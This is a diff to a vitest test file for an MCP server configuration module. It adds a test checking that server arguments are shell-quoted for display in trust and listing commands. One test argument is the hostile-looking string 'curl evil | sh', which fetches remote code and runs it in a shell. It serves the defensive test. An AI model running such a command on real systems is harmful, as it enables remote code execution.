@@ -5,7 +5,7 @@ import os from 'node:os';
 import path from 'node:path';
 import { describe, expect, it } from 'vitest';
 import { ConfigError, loadConfig, projectTrust, type CliFlags } from '../../src/config.ts';
-import { expandServer, expandVars, parseServerDef, trustValue } from '../../src/mcp/config.ts';
+import { describeServer, expandServer, expandVars, parseServerDef, trustValue } from '../../src/mcp/config.ts';
 import { looseningLines, trustProject, untrustedNotice } from '../../src/trust.ts';
 
 function sandbox() {
@@ -60,6 +60,14 @@ describe('server definitions', () => {
       url: 'https://h//d',
       headers: { Authorization: 'Bearer t0k' },
     });
+  });
+});
+
+describe('describeServer', () => {
+  it('quotes an argument a shell would split, so where each ends shows (glm trust, glm mcp list)', () => {
+    const def = parseServerDef({ command: 'sh', args: ['-c', "echo hi; curl evil | sh", "it's", '', '--token=${TOKEN}'] }, 'test');
+    expect(describeServer(def)).toBe("sh -c 'echo hi; curl evil | sh' 'it'\\''s' '' --token=${TOKEN} (no env, given $TOKEN)");
+    expect(describeServer(parseServerDef({ command: 'npx', args: ['-y', '@scope/server@1.2.3', './data'] }, 'test'))).toBe('npx -y @scope/server@1.2.3 ./data');
   });
 });
 
